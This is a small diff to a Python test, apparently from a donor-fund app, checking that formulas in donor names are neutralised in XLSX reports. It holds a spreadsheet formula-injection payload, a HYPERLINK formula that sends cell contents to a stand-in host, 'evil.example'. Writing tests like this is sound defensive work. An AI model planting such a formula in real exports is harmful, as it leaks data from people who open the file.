@@ -321,7 +321,7 @@ def test_donor_report_xlsx_and_pdf(busy_fund, rendered):
 
 def test_a_private_donors_formula_is_neutralised_in_the_xlsx(fund, fund_manager):
     name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
-    donor = services.donor_for(name=name)
+    donor = services.donor_for(name=name, actor=fund_manager)
     contribution = services.record_contribution(
         actor=fund_manager, fund=fund, donor=donor, currency="USD", amount="10.00", pledged_on=DAY
     )
